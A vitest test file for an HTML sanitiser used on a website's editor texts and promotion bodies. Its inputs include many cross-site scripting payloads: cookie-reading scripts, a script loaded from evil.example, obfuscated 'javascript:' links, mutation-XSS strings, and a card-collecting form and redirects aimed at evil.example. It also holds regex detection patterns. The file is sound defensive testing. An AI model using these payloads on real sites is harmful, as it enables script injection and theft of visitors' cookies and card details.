import { describe, expect, it } from 'vitest';
import { plainText, sanitizeSiteHtml } from './sanitize';

const clean = (html: string) => sanitizeSiteHtml(html);

/** What must never survive, whatever the spelling. */
function expectHarmless(out: string) {
  expect(out).not.toMatch(/<script|<iframe|<svg|<object|<embed|<style|<form|<input|<math|<meta|<link|<base/i);
  expect(out).not.toMatch(/\son[a-z]+\s*=/i);
  expect(out).not.toMatch(/javascript:|vbscript:|data:/i);
  expect(out).not.toMatch(/style\s*=/i);
}

describe('sanitising site texts and promotion bodies', () => {
  it('keeps the simple markup an editor writes', () => {
    const html =
      '<h2>Умови</h2><p>Текст з <strong>жирним</strong>, <em>курсивом</em> і <a href="https://example.com/terms">посиланням</a>.</p><ul><li>один</li><li>два</li></ul><table><tbody><tr><td>ЄДРПОУ</td><td>12345678</td></tr></tbody></table>';
    const out = clean(html);
    expect(out).toContain('<h2>Умови</h2>');
    expect(out).toContain('<strong>жирним</strong>');
    expect(out).toContain('<ul><li>один</li><li>два</li></ul>');
    expect(out).toContain('<td>ЄДРПОУ</td>');
    expect(out).toContain('href="https://example.com/terms"');
  });

  it('drops script tags with their contents', () => {
    const out = clean(
      '<p>Hi</p><script>alert(document.cookie)</script><SCRIPT src="//evil.example/x.js"></SCRIPT>',
    );
    expect(out).toBe('<p>Hi</p>');
    expectHarmless(out);
  });

  it('drops event handler attributes', () => {
    const out = clean(
      '<p onclick="alert(1)" onmouseover=alert(2)>text</p><img src="https://cdn.example/a.png" onerror="alert(3)"><a href="/menu" onfocus="x()">m</a>',
    );
    expect(out).toContain('<p>text</p>');
    expect(out).toContain('src="https://cdn.example/a.png"');
    expectHarmless(out);
  });

  it('drops a picture that tries to run code on error and has no safe address', () => {
    const out = clean(
      '<img src=x onerror=alert(1)><img src="javascript:alert(1)"><img src="data:image/svg+xml;base64,PHN2Zy8+">',
    );
    expect(out).toBe('');
  });

  it('removes javascript: links in every spelling', () => {
    for (const href of [
      'javascript:alert(1)',
      'JaVaScRiPt:alert(1)',
      ' javascript:alert(1)',
      'java\tscript:alert(1)',
      'jav&#x09;ascript:alert(1)',
      '&#106;avascript:alert(1)',
      'javascript&colon;alert(1)',
      'vbscript:msgbox(1)',
    ]) {
      const out = clean(`<a href="${href}">click</a>`);
      expect(out, href).toMatch(/^<a>click<\/a>$/);
      expectHarmless(out);
    }
  });

  it('removes data: URLs from links and pictures', () => {
    const out = clean(
      '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a><img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    );
    expect(out).toBe('<a>x</a>');
    expectHarmless(out);
  });

  it('removes svg, math, iframes, objects, forms and styles', () => {
    const out = clean(
      [
        '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>svg</text></a></svg>',
        '<svg><animate onbegin="alert(1)" attributeName="x"/></svg>',
        '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
        '<iframe src="javascript:alert(1)"></iframe>',
        '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        '<object data="data:text/html,<script>alert(1)</script>"></object>',
        '<embed src="https://evil.example/x.swf">',
        '<form action="https://evil.example"><input name="card"><button>Pay</button></form>',
        '<style>body{display:none}</style>',
        '<p style="background:url(javascript:alert(1))">styled</p>',
        '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        '<base href="https://evil.example/">',
      ].join(''),
    );
    expectHarmless(out);
    expect(out).toContain('<p>styled</p>');
  });

  it('does not let broken markup smuggle a tag through', () => {
    for (const html of [
      '<<script>script>alert(1)<</script>/script>',
      '<scr<script>ipt>alert(1)</script>',
      '<img """><script>alert(1)</script>">',
      '<a href="https://ok.example" <script>alert(1)</script>>x</a>',
      '<!--<img src="--><img src=x onerror=alert(1)//">',
      '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ]) {
      const out = clean(html);
      expect(out, html).not.toMatch(/<script|<img[^>]*onerror|<noscript/i);
    }
  });

  it('opens other sites in a new tab without handing them this page', () => {
    const out = clean('<a href="https://partner.example/" target="_self" rel="opener">partner</a>');
    expect(out).toBe(
      '<a href="https://partner.example/" target="_blank" rel="noopener noreferrer">partner</a>',
    );
  });

  it('turns site paths into the page language’s addresses and leaves protocol-relative ones out', () => {
    const out = sanitizeSiteHtml('<a href="/menu/rolls">rolls</a><a href="//evil.example/x">x</a>', {
      localizePath: (p) => `/ru${p}`,
    });
    expect(out).toBe('<a href="/ru/menu/rolls">rolls</a><a>x</a>');
  });

  it('keeps mail and phone links', () => {
    expect(clean('<a href="mailto:hello@example.com">mail</a><a href="tel:+380443332727">call</a>')).toBe(
      '<a href="mailto:hello@example.com">mail</a><a href="tel:+380443332727">call</a>',
    );
  });

  it('makes an editor’s h1 a section title (the page has its own)', () => {
    expect(clean('<h1 class="x">Title</h1>')).toBe('<h2>Title</h2>');
  });
});

describe('plain text of a body', () => {
  it('reads the words on one line, with no markup or script left', () => {
    expect(
      plainText(
        '<p>Перший&nbsp;абзац.</p><ul><li>один</li><li>два &amp; три</li></ul><script>alert(1)</script>',
      ),
    ).toBe('Перший абзац. один два & три');
  });

  it('keeps an escaped angle bracket as text, never as a tag', () => {
    expect(plainText('<p>1 &lt; 2 &amp;lt;b&amp;gt;</p>')).toBe('1 < 2 &lt;b&gt;');
  });
});
